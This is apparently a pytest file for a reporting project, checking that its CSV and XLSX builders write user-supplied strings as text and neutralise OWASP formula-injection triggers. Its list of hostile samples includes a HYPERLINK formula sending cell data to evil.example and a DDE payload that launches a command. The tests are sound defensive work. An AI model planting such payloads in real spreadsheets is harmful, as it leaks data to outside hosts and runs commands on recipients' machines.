"""Exports never write a formula: every string a person or an imported file supplied comes back as text,
with the OWASP formula triggers neutralised, in every CSV and XLSX the project writes."""

import csv
import io

import openpyxl
import pytest

from reports.cells import FORMULA_TRIGGERS, neutral_text
from reports.csv import csv_bytes
from reports.xlsx import Column, Sheet, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def cells_of(content: bytes):
    """Every non-empty cell of every sheet, as openpyxl reads it (a formula keeps data_type 'f')."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_neutral(cells, expected):
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # openpyxl leaves XML's escape of a carriage return (`_x000D_`) as it is in the file
    values = {cell.value.replace("_x000D_", "\r") if isinstance(cell.value, str) else cell.value for cell in cells}
    for value in expected:
        assert neutral_text(value) in values


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_trigger_gets_an_apostrophe(value):
    assert neutral_text(value) == "'" + value
    assert value.startswith(FORMULA_TRIGGERS)


def test_ordinary_text_is_left_as_it_is():
    for value in ("Hợp tác xã Hòa Bình", "0905 123 456", "a=b", "", "'đã có nháy"):
        assert neutral_text(value) == value


def test_the_xlsx_builder_writes_hostile_strings_as_text_in_titles_headers_and_cells():
    sheet = Sheet(
        "S", [Column(HOSTILE[0]), Column("Số", "int")], [[value, 5] for value in HOSTILE], title=HOSTILE[1], notes=[HOSTILE[2]]
    )
    cells = cells_of(workbook_bytes([sheet]))
    assert_neutral(cells, HOSTILE)
    assert {cell.value for cell in cells if cell.data_type == "n"} == {5}


def test_the_csv_builder_writes_hostile_strings_neutralised():
    text = csv_bytes([HOSTILE[0], "Số"], [[value, 5] for value in HOSTILE]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == neutral_text(HOSTILE[0])
    assert [row[0] for row in rows[1:]] == [neutral_text(value) for value in HOSTILE]
    assert all(row[1] == "5" for row in rows[1:])
